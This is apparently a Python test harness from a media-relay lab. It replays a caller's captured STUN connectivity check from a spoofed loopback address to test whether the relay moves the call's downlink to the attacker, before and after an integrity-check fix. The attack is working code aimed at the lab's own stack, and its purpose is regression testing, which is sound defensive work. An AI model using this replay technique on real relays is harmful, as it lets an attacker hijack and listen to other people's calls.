"""The replay attack on ``--rebind verified``, end to end: ``python -m lab.attacks.replay``.

A real aiortc call runs through the real relay (``--rebind verified``, with or
without ``--verify-integrity``).  A UDP tap where the answer names the relay
sees the caller's datagrams, as someone on the caller's network would; the
attacker takes the caller's newest connectivity check and sends the same
bytes to the relay from an address of its own.  Before the fix the relay
forwarded it on the caller's upstream socket, the media server answered it,
and the relay moved the caller's flow to the attacker, who then received the
call's downlink.  The result says whether the flow moved, how many datagrams
reached the attacker, what the relay counted, and how the call itself went.
"""

from __future__ import annotations

import asyncio
import json
import socket
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import click

from lab.callers.aiortc_caller import AiortcCall, CallOptions
from lab.capture import Capture, UdpTap
from lab.scenarios.observe import get_json, get_text, metric_by_label, relay_drops
from lab.stack import LOOPBACK, Stack, StackConfig, free_port
from wire import stun
from wire.addr import Address

RESULTS = Path(__file__).resolve().parents[2] / "reliability" / "replay.json"
# The attacker's own address on loopback: another host, as the relay sees it.
ATTACKER_HOST = "127.0.0.66"


@dataclass
class Attacker(asyncio.DatagramProtocol):
    received: int = 0

    def datagram_received(self, data: bytes, addr: Any) -> None:
        self.received += 1


def newest_check(capture: Capture) -> bytes | None:
    """The caller's newest connectivity check that passed the tap."""
    for direction, data in reversed(capture.datagrams):
        if direction == "up" and stun.request_transaction_id(data) is not None:
            return data
    return None


async def run_replay(
    *,
    verify_integrity: bool,
    replays: int = 5,
    talk_s: float = 6.0,
    log_dir: Path | None = None,
) -> dict[str, Any]:
    """One call, one attack; what happened, as a JSON-ready dict."""
    tap_port = free_port(socket.SOCK_DGRAM)
    capture = Capture(client="caller")
    config = StackConfig(
        media_servers=1,
        rebind="verified",
        relay_args=("--verify-integrity",) if verify_integrity else (),
        media_args=("--relay", f"{LOOPBACK}:{tap_port}"),
        log_dir=log_dir,
    )
    loop = asyncio.get_running_loop()
    async with Stack(config) as stack, aiohttp.ClientSession() as http:
        transport, tap = await loop.create_datagram_endpoint(
            lambda: UdpTap(stack.relay_address, capture), local_addr=(LOOPBACK, tap_port)
        )
        attacker_transport, attacker = await loop.create_datagram_endpoint(
            Attacker, local_addr=(ATTACKER_HOST, 0)
        )
        attacker_address: Address = attacker_transport.get_extra_info("sockname")[:2]
        call = AiortcCall(
            f"{stack.signaling_url}/v1/calls", CallOptions(seconds=talk_s, keep_arrivals=True)
        )
        running = asyncio.create_task(call.run())
        try:
            await asyncio.wait_for(call.connected.wait(), 20)
            await asyncio.sleep(1.0)  # the call settles; audio flows both ways
            flows_before = await get_json(http, f"{stack.relay_admin_url}/flows") or []
            check = newest_check(capture)
            assert check is not None, "no connectivity check passed the tap"
            attacked_at = time.time()
            for _ in range(replays):
                attacker_transport.sendto(check, stack.relay_address)
                await asyncio.sleep(0.05)
            await asyncio.sleep(1.5)  # the media server answers within milliseconds
            flows_after = await get_json(http, f"{stack.relay_admin_url}/flows") or []
            metrics = await get_text(http, f"{stack.relay_admin_url}/metrics") or ""
            result = await running
        finally:
            if not running.done():
                call.stop()
                await running
            tap.close()
            transport.close()
            attacker_transport.close()

    clients_after = [flow.get("client") for flow in flows_after]
    attacker_text = f"{attacker_address[0]}:{attacker_address[1]}"
    downlink = result.get("downlink") or {}
    arrivals = [entry[0] for entry in result.get("arrivals_ms") or []]
    return {
        "verify_integrity": verify_integrity,
        "replays_sent": replays,
        "check_bytes": len(check),
        "attacked_at_unix_s": round(attacked_at, 3),
        "flows_before": [flow.get("client") for flow in flows_before],
        "flows_after": clients_after,
        "flow_moved_to_attacker": attacker_text in clients_after,
        "attacker_received": attacker.received,
        "relay_drops": {k: v for k, v in relay_drops(metrics).items() if v},
        "relay_rebinds": metric_by_label(metrics, "rtclab_lb_rebinds_total", "trigger"),
        "call": {
            "ok": result.get("ok"),
            "error": result.get("error"),
            "downlink_loss_ratio": downlink.get("loss_ratio"),
            "downlink_max_gap_ms": downlink.get("max_gap_ms"),
            "downlink_frames_after_attack": sum(
                1 for ms in arrivals if result["started"] + ms / 1000 > attacked_at
            )
            if arrivals and result.get("started")
            else None,
        },
    }


def git_commit() -> str | None:
    try:
        done = subprocess.run(
            ["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True, timeout=10
        )
    except (OSError, subprocess.SubprocessError):
        return None
    return done.stdout.strip() or None


def merge_into(
    path: Path, label: str, runs: list[dict[str, Any]], note: str = ""
) -> dict[str, Any]:
    """Replace the entry ``label`` of the results file at ``path`` with these runs."""
    data: dict[str, Any] = {"schema": 1, "attack": "replay", "entries": {}}
    if path.exists():
        data = json.loads(path.read_text())
    data["entries"][label] = {
        "commit": git_commit(),
        "note": note,
        "finished_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
        "runs": runs,
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    return data


@click.command(context_settings={"help_option_names": ["-h", "--help"]})
@click.option(
    "--label",
    default="fixed",
    show_default=True,
    help="Which entry of the results file this run is (e.g. before-fix, fixed).",
)
@click.option(
    "--out",
    type=click.Path(dir_okay=False, path_type=Path),
    default=RESULTS,
    show_default=True,
    help="The results file (entries by label are replaced, others kept).",
)
@click.option("--note", default="", help="What this entry ran, if not the commit as it is.")
def main(label: str, out: Path, note: str) -> None:
    """Replay a caller's captured check from another address, with and without
    --verify-integrity, and record whether the relay moved the call to the attacker."""
    runs = [asyncio.run(run_replay(verify_integrity=flag)) for flag in (False, True)]
    merge_into(out, label, runs, note)
    for run in runs:
        click.echo(
            f"verify_integrity={run['verify_integrity']}: moved={run['flow_moved_to_attacker']}, "
            f"attacker received {run['attacker_received']} datagrams, "
            f"relay drops {run['relay_drops']}, call ok={run['call']['ok']}"
        )


if __name__ == "__main__":
    main()
